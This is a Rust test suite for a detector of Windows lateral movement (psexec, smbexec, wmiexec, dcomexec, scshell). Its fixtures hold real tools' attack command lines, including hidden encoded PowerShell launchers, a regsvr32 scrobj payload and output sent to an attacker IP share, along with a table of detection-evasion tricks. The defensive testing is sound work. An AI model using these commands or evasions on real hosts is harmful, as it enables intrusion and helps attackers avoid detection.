//! What each tool of each technique leaves on its target, reconstructed from the tools' sources.

use psexec_filter_tests::{
    CMD, Host, MMC, POWERSHELL, SERVICES, SYSTEM, WMI, alerts, counter, engines, incidents, module,
    policy_engine,
};
use serde_json::{Value, json};

const ATTACKER: &str = "10.55.1.77";

/// A command with its variables replaced, as the service controller does it.
fn expanded(command: &str) -> String {
    let variables = [
        ("%COMSPEC%", CMD),
        ("%SYSTEMROOT%", r"C:\Windows"),
        ("%COMPUTERNAME%", "PC1"),
        ("%TEMP%", r"C:\Windows\TEMP"),
        ("%SYSTEMDRIVE%", "C:"),
    ];
    variables
        .iter()
        .fold(command.to_owned(), |line, (name, value)| {
            line.replace(name, value)
        })
}

/// The commands that tools give a service, by tool and version. A service is created, started and deleted for each.
const SERVICE_COMMANDS: &[(&str, &str)] = &[
    (
        "impacket smbexec to 0.10.0",
        r"%COMSPEC% /Q /c echo cd  ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute.bat & %COMSPEC% /Q /c %TEMP%\execute.bat & del %TEMP%\execute.bat",
    ),
    (
        "impacket smbexec 0.11 and 0.12",
        r"%COMSPEC% /Q /c echo cd  ^> \\%COMPUTERNAME%\C$\__output 2^>^&1 > %SYSTEMROOT%\KqWmTzRb.bat & %COMSPEC% /Q /c %SYSTEMROOT%\KqWmTzRb.bat & del %SYSTEMROOT%\KqWmTzRb.bat",
    ),
    (
        "impacket smbexec 0.13",
        r"%COMSPEC% /Q /c echo cd  ^> \\%COMPUTERNAME%\C$\__output_xYzAbCdE 2^>^&1 > %SYSTEMROOT%\KqWmTzRb.bat & %COMSPEC% /Q /c %SYSTEMROOT%\KqWmTzRb.bat & del %SYSTEMROOT%\KqWmTzRb.bat",
    ),
    (
        "NetExec",
        r"%COMSPEC% /Q /c echo whoami ^> \\%COMPUTERNAME%\C$\aBcDeF 2^>^&1 > %TEMP%\gHiJkL.bat & %COMSPEC% /Q /c %TEMP%\gHiJkL.bat & %COMSPEC% /Q /c del %TEMP%\gHiJkL.bat",
    ),
    (
        "CrackMapExec",
        r"%COMSPEC% /Q /c echo whoami ^> \\10.55.1.77\aBcDe\fGhIj 2^>^&1 > %TEMP%\kLmNo.bat & %COMSPEC% /Q /c %TEMP%\kLmNo.bat & del %TEMP%\kLmNo.bat",
    ),
    (
        "Metasploit psexec, command",
        r"%COMSPEC% /C echo whoami ^> %SYSTEMDRIVE%\WINDOWS\Temp\aBcDeFgH.txt > \WINDOWS\Temp\iJkLmNoP.bat & %COMSPEC% /C start %COMSPEC% /C \WINDOWS\Temp\iJkLmNoP.bat",
    ),
    (
        "Metasploit psexec, powershell",
        r#"%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -noni -c "if([IntPtr]::Size -eq 4){1}""#,
    ),
    (
        "Cobalt Strike psexec_psh",
        r"%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand JABzAD0ATgBlAHcA",
    ),
    (
        "Empire Invoke-PSExec",
        r"%COMSPEC% /C start /b C:\Windows\System32\WindowsPowershell\v1.0\powershell -noP -sta -w 1 -enc SQBmACgAJABQAFMA",
    ),
];

#[test]
fn smbexec_by_every_tool_is_found() {
    for (tool, command) in SERVICE_COMMANDS {
        for (engine, mut module) in engines(module()) {
            let host = Host::new("PC1");
            let mut records = host.new_service(0, "BTOBTO", &command.replace('%', "%%"));
            records.push(host.command(60, 7, &expanded(command)));
            records.push(host.service_value(300, "BTOBTO", "Start", "DWORD (0x00000004)"));
            assert_eq!(
                incidents(&alerts(&mut *module, &records)),
                ["smbexec high"],
                "{tool} on {engine}, no connection logged"
            );
            records.push(host.connection(1_560, ATTACKER));
            let all = alerts(&mut *module, &records);
            assert_eq!(incidents(&all), ["smbexec critical"], "{tool} on {engine}");
            let last = all.last().expect("an alert");
            assert_eq!(
                (
                    &last["source"]["ip"],
                    &last["lateral"],
                    &last["service"]["name"]
                ),
                (&json!(ATTACKER), &json!(true), &json!("BTOBTO"))
            );
        }
        // Where event 13 is not logged, the command alone is reported.
        for (engine, mut module) in engines(module()) {
            let line = Host::new("PC1").command(60, 7, &expanded(command));
            assert_eq!(
                incidents(&alerts(&mut *module, &[line])),
                ["smbexec medium"],
                "{tool} on {engine}, no service logged"
            );
        }
    }
}

/// The file that a command writes its output to over the loopback is no dropped program.
#[test]
fn the_output_of_smbexec_is_not_a_dropped_program() {
    for (engine, mut module) in engines(module()) {
        let host = Host::new("PC1");
        let (_, command) = SERVICE_COMMANDS[1];
        let mut records = vec![host.connection(-500, ATTACKER)];
        for n in 0..2u32 {
            let ms = i64::from(n) * 5_000;
            records.extend(host.new_service(ms, "BTOBTO", &command.replace('%', "%%")));
            records.push(host.command(ms + 60, 7 + n, &expanded(command)));
            records.push(host.file(ms + 100, "System", r"C:\__output"));
        }
        assert_eq!(
            incidents(&alerts(&mut *module, &records)),
            ["smbexec high"],
            "{engine}"
        );
    }
}

/// Commands with words in them that are meant to be taken for something harmless.
#[test]
fn a_command_that_poses_as_something_harmless_is_found() {
    let host = Host::new("PC1");
    let wmi = r"cmd.exe /Q /c whoami & rem \windows\ccm\ 1> \\127.0.0.1\ADMIN$\__1.7 2>&1";
    let pipe = r"cmd.exe /c powershell -enc JABz & echo a > \\.\pipe\b";
    let update = r"C:\Windows\System32\cmd.exe /c evil & rem C:\Program Files\Google\Update\";
    let new = |line: &str| {
        [
            host.new_service(0, "b", line),
            vec![host.command(60, 7, line), host.connection(1_500, ATTACKER)],
        ]
        .concat()
    };
    let changed = vec![
        host.service(0, "Fax", update),
        host.command(60, 7, update),
        host.service(5_000, "Fax", r"C:\Windows\system32\fxssvc.exe"),
    ];
    for (what, records, want) in [
        (
            "SCCM's folder in a remark",
            vec![host.wmi(0, 7, CMD, wmi, "0x1d313d")],
            "wmiexec high",
        ),
        (
            "an echo into a pipe after the payload",
            new(pipe),
            "smbexec high",
        ),
        ("an updater's folder in a remark", changed, "scshell high"),
    ] {
        for (engine, mut module) in engines(module()) {
            assert_eq!(
                incidents(&alerts(&mut *module, &records)),
                [want],
                "{what} on {engine}"
            );
        }
    }
}

/// Commands that almost match a pattern, hundreds of times over, do not keep the filter from finding the attack that follows.
#[test]
fn commands_that_almost_match_do_not_hide_an_attack() {
    for (engine, mut module) in engines(module()) {
        let host = Host::new("PC1");
        for n in 0..5u32 {
            let command = format!("cmd{} b", "%A%a".repeat(200));
            alerts(
                &mut *module,
                &host.new_service(i64::from(n), &format!("s{n}"), &command),
            );
            alerts(
                &mut *module,
                &[host.command(
                    10 + i64::from(n),
                    50 + n,
                    &format!("cmd {}", "a".repeat(1_000)),
                )],
            );
        }
        let found = alerts(&mut *module, &host.psexec(100, 7, ATTACKER));
        assert!(
            found
                .iter()
                .any(|alert| alert["chain"] == "psexec" && alert["severity"] == "critical"),
            "{engine}"
        );
    }
}

/// The policy can map each level of a chain to another severity.
#[test]
fn levels_map_to_the_severities_of_the_policy() {
    let (engine, mut module) = policy_engine("[psexec]\nseverity = { critical = \"medium\" }");
    assert_eq!(
        incidents(&alerts(
            &mut *module,
            &Host::new("PC1").psexec(0, 7, ATTACKER)
        )),
        ["psexec high"],
        "{engine}: severity never falls"
    );
    let host = Host::new("PC2");
    let mut records = host.psexec(0, 7, ATTACKER);
    records.rotate_right(3);
    assert_eq!(
        incidents(&alerts(&mut *module, &records)),
        ["psexec medium"],
        "{engine}"
    );
}

/// A pipe that reveals the name of the attacker's machine leads to a revision, even if it comes last.
#[test]
fn the_name_of_the_source_is_reported_if_it_comes_late() {
    for (engine, mut module) in engines(module()) {
        let host = Host::new("PC1");
        assert!(!alerts(&mut *module, &host.psexec(0, 7, ATTACKER)).is_empty());
        let late = alerts(
            &mut *module,
            &[host.pipe(
                2_000,
                7,
                r"C:\Windows\PSEXESVC.exe",
                r"\PSEXESVC-EVIL-77-stdin",
            )],
        );
        assert_eq!(
            late.last().map(|alert| &alert["source"]["domain"]),
            Some(&json!("evil")),
            "{engine}"
        );
    }
}

/// An interactive shell creates one service for each command. It is one incident.
#[test]
fn an_smbexec_shell_is_one_incident() {
    for (engine, mut module) in engines(module()) {
        let host = Host::new("PC1");
        let command = SERVICE_COMMANDS[1].1;
        let mut records = vec![host.connection(-500, ATTACKER)];
        for n in 0..12u32 {
            let ms = i64::from(n) * 4_000;
            let name = format!("Svc{n}");
            let line = command.replace("cd ", &format!("dir {n}"));
            records.extend(host.new_service(ms, &name, &line.replace('%', "%%")));
            records.push(host.command(ms + 60, 100 + n, &expanded(&line)));
            records.push(host.service_value(ms + 300, &name, "DeleteFlag", "DWORD (0x00000001)"));
        }
        let all = alerts(&mut *module, &records);
        assert_eq!(incidents(&all), ["smbexec critical"], "{engine}");
        assert_eq!(
            all.last().map(|alert| &alert["repeat"]),
            Some(&json!(10)),
            "{engine}"
        );
    }
}

/// As many commands in a row as the policy says make a shell.
#[test]
fn the_policy_says_how_many_commands_make_a_shell() {
    for (setting, want) in [
        ("", "smbexec critical"),
        ("[smbexec]\nshell_commands = 4", "smbexec high"),
    ] {
        let (engine, mut module) = policy_engine(setting);
        let host = Host::new("PC1");
        let mut records = vec![host.connection(-500, ATTACKER)];
        for n in 0..3u32 {
            let (ms, line) = (
                i64::from(n) * 4_000,
                SERVICE_COMMANDS[1].1.replace("cd ", &format!("dir {n}")),
            );
            records.extend(host.new_service(ms, &format!("Svc{n}"), &line.replace('%', "%%")));
            records.push(host.command(ms + 60, 100 + n, &expanded(&line)));
        }
        assert_eq!(
            incidents(&alerts(&mut *module, &records)),
            [want],
            "{engine} {setting}"
        );
    }
}

/// Services that look like smbexec's and are not: a local getsystem in both its forms, whoever connects; an installer's command.
#[test]
fn services_that_run_their_own_commands_are_low() {
    for (what, service, command, line) in [
        (
            "echo into a pipe",
            "hcqljo",
            r"cmd.exe /c echo hcqljo > \\.\pipe\hcqljo",
            r"cmd.exe /c echo hcqljo > \\.\pipe\hcqljo",
        ),
        (
            "rundll32 of a DLL named like the service",
            "lfkswp",
            r"rundll32.exe C:\Users\a\AppData\Local\Temp\lfkswp.dll,a /p:lfkswp",
            r"rundll32.exe C:\Users\a\AppData\Local\Temp\lfkswp.dll,a /p:lfkswp",
        ),
    ] {
        for (engine, mut module) in engines(module()) {
            let host = Host::new("PC1");
            let mut records = vec![host.connection(-5_000, ATTACKER)];
            records.extend(host.new_service(0, service, command));
            let image = if line.starts_with("cmd") {
                CMD
            } else {
                r"C:\Windows\System32\rundll32.exe"
            };
            records.push(host.process(60, (7, image, line), (1, SERVICES), SYSTEM));
            records.push(host.connection(1_500, ATTACKER));
            assert_eq!(
                incidents(&alerts(&mut *module, &records)),
                ["smbexec low"],
                "{what} on {engine}"
            );
        }
    }
    for (engine, mut module) in engines(module()) {
        let host = Host::new("PC1");
        let mut records = host.new_service(0, "Setup", r"cmd.exe /c C:\setup\run.cmd");
        records.push(host.command(60, 7, r"cmd.exe /c C:\setup\run.cmd"));
        assert_eq!(
            incidents(&alerts(&mut *module, &records)),
            ["smbexec low"],
            "an installer on {engine}"
        );
    }
}

#[test]
fn wmiexec_by_every_tool_is_found() {
    // Program, command line, severity without and with the connection to RPC.
    for (tool, image, line, alone, connected) in [
        (
            "impacket wmiexec",
            CMD,
            r"cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1556656369.7 2>&1",
            Some("high"),
            "high",
        ),
        (
            "impacket wmiexec -nooutput",
            CMD,
            r"cmd.exe /Q /c whoami",
            Some("high"),
            "high",
        ),
        (
            "impacket wmiexec -silentcommand",
            r"C:\Windows\System32\whoami.exe",
            r"whoami.exe",
            None,
            "medium",
        ),
        (
            "impacket wmiexec -shell-type powershell",
            POWERSHELL,
            r"powershell.exe -NoP -NoL -sta -NonI -W Hidden -Exec Bypass -Enc dwBoAG8A 1> \\127.0.0.1\ADMIN$\__1556656369.7 2>&1",
            Some("high"),
            "high",
        ),
        (
            "NetExec and CrackMapExec",
            CMD,
            r"cmd.exe /Q /c whoami 1> \Windows\Temp\aBcDeF 2>&1",
            Some("high"),
            "high",
        ),
        (
            "smbmap",
            CMD,
            r"cmd.exe /Q /c whoami 1> \\127.0.0.1\C$\aBcDeFgHiJ 2>&1",
            Some("high"),
            "high",
        ),
        (
            "SharpExec",
            CMD,
            r"cmd.exe /c whoami > C:\__LegitFile 2>&1",
            Some("high"),
            "high",
        ),
        (
            "wmic process call create",
            r"C:\Windows\System32\calc.exe",
            "calc.exe",
            None,
            "medium",
        ),
        (
            "by a shipper that leaves XML's entities in",
            CMD,
            r"cmd.exe /Q /c cd \ 1&gt; \\127.0.0.1\ADMIN$\__1.7 2&gt;&amp;1",
            Some("high"),
            "high",
        ),
    ] {
        for (engine, mut module) in engines(module()) {
            let host = Host::new("PC1");
            let start = host.wmi(0, 7, image, line, "0x1d313d");
            let want: Vec<String> = alone
                .iter()
                .map(|severity| format!("wmiexec {severity}"))
                .collect();
            assert_eq!(
                incidents(&alerts(&mut *module, std::slice::from_ref(&start))),
                want,
                "{tool} on {engine}, no connection logged"
            );
            let host = Host::new("PC2");
            let records = [
                host.wmi(0, 7, image, line, "0x1d313d"),
                host.inbound(1_500, (ATTACKER, 50_300), ("10.0.0.21", 135)),
            ];
            let all = alerts(&mut *module, &records);
            assert_eq!(
                incidents(&all),
                [format!("wmiexec {connected}")],
                "{tool} on {engine}"
            );
            let last = all.last().expect("an alert");
            assert_eq!(
                (&last["source"]["ip"], &last["user"]),
                (
                    &json!(ATTACKER),
                    &json!({"domain": "CORP", "name": "alice"})
                ),
                "{tool}"
            );
        }
    }
}

/// Management over WMI, by a service's account or of a program that management tools start, is not reported.
#[test]
fn management_over_wmi_is_not_reported() {
    for (what, image, line, logon_id) in [
        (
            "SCCM",
            r"C:\Windows\CCM\CcmExec.exe",
            r"C:\Windows\CCM\CcmExec.exe",
            "0x1d313d",
        ),
        (
            "a compiler",
            r"C:\Windows\System32\wbem\mofcomp.exe",
            r"C:\Windows\System32\wbem\mofcomp.exe a.mof",
            "0x1d313d",
        ),
        (
            "a service's own",
            r"C:\app\inventory.exe",
            "inventory.exe",
            "0x3e7",
        ),
        (
            "no logon session logged",
            r"C:\app\inventory.exe",
            "inventory.exe",
            "-",
        ),
    ] {
        for (engine, mut module) in engines(module()) {
            let host = Host::new("PC1");
            let records = [
                host.inbound(-60_000, (ATTACKER, 50_300), ("10.0.0.21", 135)),
                host.wmi(0, 7, image, line, logon_id),
            ];
            assert_eq!(
                incidents(&alerts(&mut *module, &records)),
                Vec::<String>::new(),
                "{what} on {engine}"
            );
        }
    }
}

#[test]
fn the_commands_of_a_wmiexec_session_are_one_incident() {
    for (engine, mut module) in engines(module()) {
        let host = Host::new("PC1");
        let line =
            |n: u32| format!(r"cmd.exe /Q /c dir {n} 1> \\127.0.0.1\ADMIN$\__1556656369.7 2>&1");
        let mut records: Vec<String> = (0..3)
            .map(|n| host.wmi(i64::from(n) * 3_000, 7 + n, CMD, &line(n), "0x1d313d"))
            .collect();
        records.push(host.wmi(9_000, 20, CMD, &line(9), "0x99999"));
        let all = alerts(&mut *module, &records);
        assert_eq!(
            incidents(&all),
            ["wmiexec critical", "wmiexec high"],
            "{engine}: two sessions"
        );
        assert_eq!(
            all.iter().map(|alert| alert["repeat"].as_u64()).max(),
            Some(Some(1)),
            "{engine}"
        );
    }
}

/// Connection and process are joined by the ProcessGuid of the DCOM server.
#[test]
fn dcomexec_joins_by_process_guid() {
    let shell = r#""C:\Windows\System32\cmd.exe" /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__17602 2>&1"#;
    for (what, line, connected_to, want) in [
        (
            "impacket, MMC20",
            shell,
            Some(50),
            Some("dcomexec critical"),
        ),
        (
            "impacket, no connection logged",
            shell,
            None,
            Some("dcomexec medium"),
        ),
        ("a program", "calc.exe", Some(50), Some("dcomexec high")),
        (
            "a program, connection to another process of that name",
            "calc.exe",
            Some(51),
            None,
        ),
        ("an administrator at the machine", "calc.exe", None, None),
    ] {
        for (engine, mut module) in engines(module()) {
            let host = Host::new("PC1");
            let mut records =
                vec![host.process(0, (7, CMD, line), (50, MMC), (r"CORP\alice", "0x1d313d"))];
            if let Some(process) = connected_to {
                records.push(host.dcom_connection(1_500, (process, MMC), ATTACKER));
            }
            let want: Vec<String> = want.iter().map(|want| (*want).to_owned()).collect();
            assert_eq!(
                incidents(&alerts(&mut *module, &records)),
                want,
                "{what} on {engine}"
            );
        }
    }
}

#[test]
fn scshell_is_a_service_that_is_changed_run_and_restored() {
    const ORIGINAL: &str = r"C:\Windows\system32\fxssvc.exe";
    let payload =
        r"C:\Windows\System32\cmd.exe /c C:\Windows\System32\regsvr32.exe /s /n /u /i:x scrobj.dll";
    for (what, created, run, restored, connected, want) in [
        (
            "run and restored, from elsewhere",
            false,
            true,
            true,
            true,
            Some("scshell critical"),
        ),
        (
            "run and restored",
            false,
            true,
            true,
            false,
            Some("scshell high"),
        ),
        (
            "run, from elsewhere",
            false,
            true,
            false,
            true,
            Some("scshell high"),
        ),
        ("run", false, true, false, false, Some("scshell medium")),
        (
            "restored, the process not logged",
            false,
            false,
            true,
            false,
            Some("scshell medium"),
        ),
        ("only set", false, false, false, true, None),
        (
            "a new service is not this",
            true,
            true,
            false,
            true,
            Some("smbexec high"),
        ),
    ] {
        for (engine, mut module) in engines(module()) {
            let host = Host::new("PC1");
            let mut records = if created {
                host.new_service(0, "Fax", payload)
            } else {
                vec![host.service(0, "Fax", payload)]
            };
            if run {
                records.push(host.command(100, 7, payload));
            }
            if restored {
                records.push(host.service(5_170, "Fax", ORIGINAL));
            }
            if connected {
                records.push(host.inbound(1_600, (ATTACKER, 50_300), ("10.0.0.21", 135)));
            }
            let want: Vec<String> = want.iter().map(|want| (*want).to_owned()).collect();
            assert_eq!(
                incidents(&alerts(&mut *module, &records)),
                want,
                "{what} on {engine}"
            );
        }
    }
}

/// An update that points a service at its new program and starts it is not reported.
#[test]
fn an_update_of_a_service_is_not_reported() {
    for (what, program) in [
        (
            "Defender",
            r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2301.6-0\MsMpEng.exe",
        ),
        ("any other", r"C:\Program Files\Agent\2.0\agent.exe"),
    ] {
        for (engine, mut module) in engines(module()) {
            let host = Host::new("PC1");
            let records = [
                host.service(0, "Agent", program),
                host.start(100, 7, program),
                host.connection(1_500, ATTACKER),
            ];
            assert_eq!(
                incidents(&alerts(&mut *module, &records)),
                Vec::<String>::new(),
                "{what} on {engine}"
            );
        }
    }
}

/// Known ways to evade the `psexec` chain, each with the severity that is still reported.
#[test]
fn psexec_is_found_when_it_evades() {
    let host = Host::new("PC1");
    let drop = |path: &str| host.file(0, "System", path);
    let run = |path: &str| host.start(80, 7, path);
    let from = |address: &str| host.connection(1_500, address);
    let service = |command: &str| host.new_service(40, "Updater", command);
    let table: Vec<(&str, Vec<String>, &str)> = vec![
        (
            "program, service and pipes renamed",
            [
                vec![drop(r"C:\Windows\svch0st.exe")],
                service(r"%%SystemRoot%%\svch0st.exe"),
                vec![
                    run(r"C:\Windows\svch0st.exe"),
                    host.pipe(100, 7, r"C:\Windows\svch0st.exe", r"\x-PC9-77-stdin"),
                    from(ATTACKER),
                ],
            ]
            .concat(),
            "critical",
        ),
        (
            "System32",
            vec![
                drop(r"C:\Windows\System32\RemComSvc.exe"),
                run(r"C:\Windows\System32\RemComSvc.exe"),
                from(ATTACKER),
            ],
            "high",
        ),
        (
            "another share",
            vec![
                drop(r"D:\Data\a.exe"),
                run(r"D:\Data\a.exe"),
                from(ATTACKER),
            ],
            "high",
        ),
        (
            "ProgramData",
            vec![
                drop(r"C:\ProgramData\a.exe"),
                run(r"C:\ProgramData\a.exe"),
                from(ATTACKER),
            ],
            "high",
        ),
        (
            "renamed after the upload",
            [
                vec![drop(r"C:\Windows\a.txt")],
                service(r"%%SystemRoot%%\a.exe"),
                vec![run(r"C:\Windows\a.exe"), from(ATTACKER)],
            ]
            .concat(),
            "medium",
        ),
        (
            "run by a command of the service",
            [
                vec![drop(r"C:\Windows\Temp\a.exe")],
                service(r"C:\WINDOWS\system32\cmd.exe /c C:\Windows\Temp\a.exe"),
                vec![
                    host.command(
                        80,
                        7,
                        r"C:\WINDOWS\system32\cmd.exe /c C:\Windows\Temp\a.exe",
                    ),
                    from(ATTACKER),
                ],
            ]
            .concat(),
            "critical",
        ),
        (
            "no connection logged",
            vec![drop(r"C:\Windows\a.exe"), run(r"C:\Windows\a.exe")],
            "medium",
        ),
        (
            "over IPv6",
            vec![
                drop(r"C:\Windows\a.exe"),
                run(r"C:\Windows\a.exe"),
                from("fe80:0:0:0:90e:17af:263c:5209"),
            ],
            "high",
        ),
        (
            "forwarded through the loopback",
            vec![
                drop(r"C:\Windows\a.exe"),
                run(r"C:\Windows\a.exe"),
                from("127.0.0.1"),
            ],
            "medium",
        ),
        (
            "a delayed start",
            vec![
                drop(r"C:\Windows\a.exe"),
                host.start(119_000, 7, r"C:\Windows\a.exe"),
            ],
            "medium",
        ),
        (
            "a path of many spellings",
            vec![
                drop(r"C:\Windows\a.exe"),
                run(r"\\?\c:\WINDOWS\.\system32\..\A.EXE. "),
            ],
            "medium",
        ),
        (
            "arguments and quotes",
            [
                vec![drop(r"C:\Windows\a b.exe")],
                service(r#""C:\Windows\a b.exe" -service"#),
                vec![run(r"C:\Windows\a b.exe")],
            ]
            .concat(),
            "high",
        ),
        (
            "a short name in the service",
            [
                vec![drop(r"C:\Windows\PSEXESVC.exe")],
                service(r"C:\Windows\PSEXES~1.EXE"),
                vec![run(r"C:\Windows\PSEXESVC.exe"), from(ATTACKER)],
            ]
            .concat(),
            "critical",
        ),
    ];
    for (what, records, want) in table {
        for (engine, mut module) in engines(module()) {
            assert_eq!(
                incidents(&alerts(&mut *module, &records)),
                [format!("psexec {want}")],
                "{what} on {engine}"
            );
        }
    }
}

/// Source and user of an attack come from the logon it came with, from a process that ran as another user, and from names that the
/// tool reveals.
#[test]
fn source_and_user_are_named() {
    for (engine, mut module) in engines(module()) {
        let host = Host::new("PC1");
        let mut records = host.psexec(0, 7, ATTACKER);
        // On a file server others are connected, too, and one of them fits the time better.
        records.insert(0, host.logon(-200, ATTACKER, "0x5555", "EVIL-PC"));
        records.insert(1, host.connection(1_580, "10.1.0.9"));
        let last = alerts(&mut *module, &records).pop().expect("an alert");
        // The logon names it before its connection is logged, so no port is known.
        assert_eq!(
            last["source"],
            json!({"ip": ATTACKER, "candidates": 2, "domain": "EVIL-PC"}),
            "{engine}"
        );
        assert_eq!(
            last["user"],
            json!({"domain": "CORP", "name": "alice"}),
            "{engine}"
        );
    }
    for (engine, mut module) in engines(module()) {
        let host = Host::new("PC1");
        let mut records = host.psexec(0, 7, ATTACKER);
        records.insert(
            4,
            host.process(
                150,
                (8, CMD, "cmd.exe"),
                (7, r"C:\Windows\PSEXESVC.exe"),
                (r"CORP\bob", "0x7777"),
            ),
        );
        records.insert(
            5,
            host.file(160, "System", r"C:\Windows\PSEXEC-ADMINPC-1A2B3C4D.key"),
        );
        let last = alerts(&mut *module, &records).pop().expect("an alert");
        assert_eq!(
            last["user"],
            json!({"domain": "CORP", "name": "bob"}),
            "{engine}"
        );
        assert_eq!(
            last["process"]["children"],
            json!([{"executable": CMD, "command_line": "cmd.exe", "user": {"domain": "CORP", "name": "bob"}}])
        );
        assert_eq!(last["source"]["domain"], json!("adminpc"), "{engine}");
    }
    // The process runs in the logon's own session, which is surer than any time.
    for (engine, mut module) in engines(module()) {
        let host = Host::new("PC1");
        let line = r"cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1556656369.7 2>&1";
        let records = [
            host.logon(-9_000, ATTACKER, "0x1d313d", "-"),
            host.logon(-100, "10.1.0.9", "0x2222", "-"),
            host.process(0, (7, CMD, line), (2, WMI), (r"CORP\alice", "0x1d313d")),
        ];
        let last = alerts(&mut *module, &records).pop().expect("an alert");
        assert_eq!(last["source"]["ip"], json!(ATTACKER), "{engine}");
    }
}

/// At most eight children are named, and the number of tracked processes is limited over all hosts.
#[test]
fn children_and_tracked_processes_are_limited() {
    for (engine, mut module) in engines(module()) {
        for n in 0..300u32 {
            let host = Host::new(&format!("PC{n}"));
            alerts(&mut *module, &host.psexec(0, 1_000 + n, ATTACKER)[..3]);
        }
        assert_eq!(
            counter(&mut *module, "evicted_tracked_processes"),
            300 - 256,
            "{engine}"
        );
        let host = Host::new("PC299");
        for n in 0..12 {
            let child = host.process(
                200 + i64::from(n),
                (5_000 + n, CMD, "cmd.exe"),
                (1_299, r"C:\Windows\PSEXESVC.exe"),
                SYSTEM,
            );
            assert_eq!(
                alerts(&mut *module, &[child]),
                Vec::<Value>::new(),
                "{engine}: a child that runs as SYSTEM is nothing new"
            );
        }
        let last = alerts(&mut *module, &[host.connection(1_500, ATTACKER)])
            .pop()
            .expect("a revision");
        let children = last["process"]["children"].as_array().map_or(0, Vec::len);
        assert!((4..=8).contains(&children), "{engine}: {children}");
    }
}

/// The literal rule of many write-ups, and its form for platforms that cannot join.
#[test]
fn psexec_can_be_found_by_the_literal_rule_and_without_joins() {
    let host = Host::new("PC1");
    let whole = host.psexec(0, 7, ATTACKER);
    let no_connection = whole[..4].to_vec();
    let unrelated = vec![
        host.connection(-20_000, "10.1.0.9"),
        host.file(
            0,
            r"C:\Windows\System32\msiexec.exe",
            r"C:\Windows\tool.exe",
        ),
        host.process(
            9_000,
            (8, r"C:\Windows\regedit.exe", "regedit.exe"),
            (9, r"C:\Windows\explorer.exe"),
            (r"CORP\alice", "0x1d313d"),
        ),
    ];
    for (policy, whole_want, no_connection_want, unrelated_want) in [
        ("", Some("psexec critical"), Some("psexec high"), None),
        (
            "[psexec]\nrequire = [\"connection\", \"file\", \"process\"]",
            Some("psexec critical"),
            None,
            None,
        ),
        (
            "[psexec]\nmatch = \"distinct-codes\"",
            Some("psexec medium"),
            None,
            Some("psexec medium"),
        ),
    ] {
        for (records, want) in [
            (&whole, whole_want),
            (&no_connection, no_connection_want),
            (&unrelated, unrelated_want),
        ] {
            let (engine, mut module) = policy_engine(policy);
            let want: Vec<String> = want.iter().map(|want| (*want).to_owned()).collect();
            assert_eq!(
                incidents(&alerts(&mut *module, records)),
                want,
                "{policy} on {engine}"
            );
        }
    }
}

/// Incomplete and contradictory events lead to no alert, and each is counted as read or by its reason.
#[test]
fn incomplete_and_contradictory_events_lead_to_no_alert() {
    let host = Host::new("PC1");
    let long = "A".repeat(32 * 1024);
    // The records, and how many of them are read or counted by a reason; the others are rejected early as irrelevant.
    let table: Vec<(&str, Vec<String>, u64)> = vec![
        (
            "a process without an image",
            vec![
                host.file(0, "System", r"C:\Windows\a.exe"),
                host.event(1, 50, json!({"ParentImage": SERVICES})),
            ],
            2,
        ),
        (
            "a service without a command",
            vec![
                host.service(0, "a", "-"),
                host.command(50, 7, r"cmd.exe /c dir"),
            ],
            2,
        ),
        (
            "a service without a name",
            vec![
                host.service(0, "", r"cmd.exe /c dir"),
                host.command(50, 7, r"cmd.exe /c dir C:\"),
            ],
            2,
        ),
        (
            "a file of the year 1601",
            vec![
                host.file(-13_000_000_000_000, "System", r"C:\Windows\a.exe"),
                host.start(50, 7, r"C:\Windows\a.exe"),
            ],
            2,
        ),
        (
            "a file of the year 2100",
            vec![
                host.file(2_370_000_000_000, "System", r"C:\Windows\a.exe"),
                host.start(50, 7, r"C:\Windows\a.exe"),
            ],
            2,
        ),
        (
            "values of another type",
            vec![
                host.event(
                    11,
                    0,
                    json!({"Image": ["System"], "TargetFilename": {"a": 1}}),
                ),
                host.start(50, 7, r"C:\Windows\a.exe"),
            ],
            2,
        ),
        (
            "a command line of 32 KiB",
            vec![host.wmi(0, 7, CMD, &format!("cmd.exe {long}"), "0x1d313d")],
            1,
        ),
        (
            "a logon without an address",
            vec![
                host.logon(0, "-", "0x1d313d", "-"),
                host.wmi(50, 7, CMD, "cmd.exe", "0x1d313d"),
            ],
            1,
        ),
        (
            "a logon by another provider",
            vec![
                host.logon(0, ATTACKER, "0x1d313d", "-")
                    .replace("Microsoft-Windows-Security-Auditing", "Other"),
            ],
            1,
        ),
    ];
    for (what, records, want) in table {
        for (engine, mut module) in engines(module()) {
            assert_eq!(
                alerts(&mut *module, &records),
                Vec::<Value>::new(),
                "{what} on {engine}"
            );
            let read = counter(&mut *module, "events") + counter(&mut *module, "wrong_provider");
            assert_eq!(read, want, "{what} on {engine}");
        }
    }
}
